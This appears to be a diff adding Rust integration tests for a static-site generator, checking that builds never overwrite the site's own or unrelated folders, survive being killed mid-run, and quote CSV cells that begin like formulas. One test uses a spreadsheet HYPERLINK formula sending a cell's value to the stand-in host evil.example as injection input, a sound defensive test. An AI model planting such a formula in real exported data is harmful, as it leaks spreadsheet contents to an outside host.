@@ -1,0 +1,220 @@
+//! What `build` must never do: delete a folder it did not write, or leave a
+//! half-written output behind, even when killed at any moment.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use crate::harness::TestSite;
+
+/// Every file below `dir` with its bytes.
+fn tree(dir: &Path) -> BTreeMap<String, Vec<u8>> {
+    walkdir::WalkDir::new(dir)
+        .sort_by_file_name()
+        .into_iter()
+        .map(|e| e.unwrap())
+        .filter(|e| e.file_type().is_file())
+        .map(|e| {
+            let rel = e.path().strip_prefix(dir).unwrap().to_string_lossy();
+            (rel.into_owned(), std::fs::read(e.path()).unwrap())
+        })
+        .collect()
+}
+
+fn build_into(site: &TestSite, out: &Path, extra: &[&str]) -> crate::harness::Run {
+    site.run(&[&["build", "--out", out.to_str().unwrap()], extra].concat())
+}
+
+#[test]
+fn the_site_root_is_never_an_output() {
+    let site = TestSite::minimal();
+    let before = tree(site.path());
+    for extra in [&[][..], &["--force"]] {
+        let run = build_into(&site, site.path(), extra);
+        assert_eq!(run.code, Some(2), "{}", run.stderr);
+        run.assert_stderr_has(&format!(
+            "error: --out {} is the site's own folder: building there would replace the site's sources",
+            site.path().display()
+        ));
+        run.assert_stderr_has("(--force does not change this)");
+    }
+    let parent = site.path().parent().unwrap();
+    let run = build_into(&site, parent, &["--force"]);
+    assert_eq!(run.code, Some(2));
+    run.assert_stderr_has(&format!(
+        "error: --out {} holds the site's folder: replacing it would delete the site",
+        parent.display()
+    ));
+    assert_eq!(before, tree(site.path()));
+}
+
+#[test]
+fn the_input_folders_are_never_an_output() {
+    let site = TestSite::minimal();
+    let before = tree(site.path());
+    for (out, folder) in [
+        ("content", "content"),
+        ("data/adoption", "data"),
+        ("themes/default/out", "themes"),
+        ("static", "static"),
+    ] {
+        let out = site.path().join(out);
+        let run = build_into(&site, &out, &["--force"]);
+        assert_eq!(run.code, Some(2), "{}", run.stderr);
+        run.assert_stderr_has(&format!(
+            "error: --out {} is inside the site's {folder}/ folder, which renkei reads",
+            out.display()
+        ));
+    }
+    // Spelled through `..`, the folder is still the site's.
+    let sneaky = site.path().join("public/../content");
+    let run = build_into(&site, &sneaky, &[]);
+    assert_eq!(run.code, Some(2));
+    run.assert_stderr_has("is inside the site's content/ folder");
+    assert_eq!(before, tree(site.path()));
+}
+
+#[test]
+fn a_folder_of_unrelated_files_is_refused_without_force() {
+    let site = TestSite::minimal();
+    let reports = tempfile::tempdir().unwrap();
+    std::fs::write(reports.path().join("budget.xlsx"), "the office's only copy").unwrap();
+    std::fs::create_dir(reports.path().join("2024")).unwrap();
+    std::fs::write(reports.path().join("2024/minutes.txt"), "minutes").unwrap();
+    let before = tree(reports.path());
+    let run = build_into(&site, reports.path(), &[]);
+    assert_eq!(run.code, Some(2), "{}", run.stderr);
+    run.assert_stderr_has(&format!(
+        "error: {} already holds files that renkei did not write (it has no .renkei-output file): refusing to replace them; choose a new or empty folder, or pass --force to replace everything in it with the site",
+        reports.path().display()
+    ));
+    assert_eq!(before, tree(reports.path()));
+
+    // Taken over on request; from then on it is renkei's output.
+    let run = build_into(&site, reports.path(), &["--force"]);
+    assert!(run.success, "{}", run.stderr);
+    assert!(!reports.path().join("budget.xlsx").exists());
+    assert!(reports.path().join(".renkei-output").is_file());
+    let run = build_into(&site, reports.path(), &[]);
+    assert!(run.success, "{}", run.stderr);
+}
+
+#[test]
+fn a_fresh_or_empty_folder_is_written_with_the_marker() {
+    let site = TestSite::minimal();
+    let outside = tempfile::tempdir().unwrap();
+    let fresh = outside.path().join("new/site");
+    let run = build_into(&site, &fresh, &[]);
+    assert!(run.success, "{}", run.stderr);
+    assert!(fresh.join("index.html").is_file());
+    assert!(fresh.join(".renkei-output").is_file());
+    let empty = outside.path().join("empty");
+    std::fs::create_dir(&empty).unwrap();
+    assert!(build_into(&site, &empty, &[]).success);
+    assert_eq!(tree(&fresh), tree(&empty));
+    let leftovers: Vec<String> = std::fs::read_dir(outside.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(leftovers.len(), 2, "{leftovers:?}");
+}
+
+/// A small deterministic pseudo-random sequence (xorshift), so a failing
+/// run can be repeated exactly.
+struct Dice(u64);
+
+impl Dice {
+    fn below(&mut self, n: u64) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0 % n
+    }
+}
+
+#[test]
+fn a_build_killed_at_any_moment_leaves_a_whole_output() {
+    let site = TestSite::minimal();
+    let guide = |text: &str| crate::harness::GUIDE.replace("本文。", text);
+    // The two complete outputs a killed build may leave.
+    let mut whole = Vec::new();
+    for text in ["版A。", "版B。"] {
+        site.write("content/guides/start.md", &guide(text));
+        site.build_ok();
+        whole.push(tree(&site.path().join("public")));
+    }
+    let mut dice = Dice(0x5eed_1234_abcd_0042);
+    for round in 0..16 {
+        let text = if round % 2 == 0 { "版A。" } else { "版B。" };
+        site.write("content/guides/start.md", &guide(text));
+        let mut child = Command::new(env!("CARGO_BIN_EXE_renkei"))
+            .args(["build", "--root"])
+            .arg(site.path())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("start renkei");
+        std::thread::sleep(Duration::from_millis(dice.below(400)));
+        // SIGKILL: no handler runs, as with a killed CI job.
+        let _ = child.kill();
+        child.wait().expect("wait for renkei");
+        let now = tree(&site.path().join("public"));
+        assert!(
+            whole.contains(&now),
+            "round {round}: the output is neither the old nor the new build ({} files)",
+            now.len()
+        );
+    }
+    // The next build cleans up after the killed ones.
+    site.build_ok();
+    site.assert_no_leftovers();
+}
+
+#[test]
+fn open_data_cells_that_start_like_a_formula_are_quoted() {
+    let site = TestSite::minimal();
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    site.write(
+        "site.toml",
+        &crate::harness::SITE_TOML.replace("name = \"北部\"", "name = \"-北部\""),
+    );
+    site.write(
+        "data/municipalities.csv",
+        &crate::harness::MUNICIPALITIES.replace("442011,大分市", "442011,+大分市"),
+    );
+    site.write(
+        "data/offices.csv",
+        &crate::harness::OFFICES.replace(
+            "さくら居宅介護支援事業所",
+            &format!("\"{}\"", evil.replace('"', "\"\"")),
+        ),
+    );
+    site.write(
+        "data/adoption/2025-11-30.csv",
+        &crate::harness::SNAPSHOT.replace("みらいケアノート", "@SUM(A1)"),
+    );
+    site.build_ok();
+    let adopted = site.output("data/adopted-offices.csv");
+    assert!(
+        adopted.contains("4470100001,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",442011,居宅介護支援;介護予防支援,true,'@SUM(A1)\n"),
+        "{adopted}"
+    );
+    assert!(
+        site.output("data/groups.csv")
+            .contains("\n'-北部,2025-11-30,3,2,66.7,")
+    );
+    assert!(
+        site.output("data/municipalities.csv")
+            .contains("\n442011,'+大分市,2025-11-30,2,1,50.0,")
+    );
+    assert!(
+        site.output("data/trend.csv")
+            .contains(",442011,'+大分市,2,1,50.0\n")
+    );
+    // Numbers stay numbers, and JSON keeps every value as it is.
+    let json: serde_json::Value =
+        serde_json::from_str(&site.output("data/municipalities.json")).unwrap();
+    assert_eq!(json[1]["name"], "+大分市");
+    assert_eq!(json[1]["rate"], 50.0);
+}
